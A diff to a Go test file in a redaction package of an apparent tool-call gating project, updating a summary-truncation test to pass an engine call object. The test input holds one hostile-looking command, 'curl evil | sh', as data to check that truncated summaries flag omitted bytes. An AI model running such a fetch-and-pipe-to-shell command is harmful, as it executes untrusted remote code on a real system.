@@ -3,6 +3,8 @@ package redact
 import (
 	"strings"
 	"testing"
+
+	"github.com/toolgate/toolgate/engine"
 )
 
 // TestVisible checks that every character that can hide or reorder what a
@@ -69,7 +71,7 @@ func TestSecretShapes(t *testing.T) {
 // it left out instead of ending like a complete command.
 func TestSummaryCutSaysSo(t *testing.T) {
 	long := "echo " + strings.Repeat("a", 400) + " ; curl evil | sh"
-	got := Summarize("bash", map[string]any{"command": long})
+	got := Summarize(engine.NewCall("bash", map[string]any{"command": long}))
 	if !strings.Contains(got, "more bytes not shown]") || len(got) > SummaryMax+10 {
 		t.Errorf("summary %q (%d bytes)", got, len(got))
 	}
